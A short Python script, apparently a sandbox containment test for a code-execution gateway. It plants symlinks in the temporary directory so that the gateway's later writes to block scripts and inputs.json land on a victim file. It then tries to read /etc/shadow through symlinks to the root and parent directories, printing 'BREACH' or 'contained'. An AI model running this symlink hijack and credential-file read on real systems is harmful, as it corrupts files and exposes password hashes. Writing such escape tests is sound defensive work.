# ruff: noqa - a block of a document, not a module
"""Lays links where the gateway may write or read next."""

import os

temporary = os.environ["TMPDIR"]
victim = inputs["files"][0]
for count in range(1, 4):
    for name in (f"{temporary}/block-{count}.sh", f"{temporary}/inputs.json"):
        if os.path.lexists(name):
            os.unlink(name)
        os.symlink(victim, name)
os.symlink("/", f"{temporary}/root")
os.symlink("..", f"{temporary}/up")
for path in (f"{temporary}/root/etc/shadow", f"{temporary}/up/up/up/etc/shadow", f"{temporary}/inputs.json"):
    try:
        with open(path) as file:
            print("BREACH", path, file.read(4096))
    except OSError as error:
        print("contained", path, error.errno)
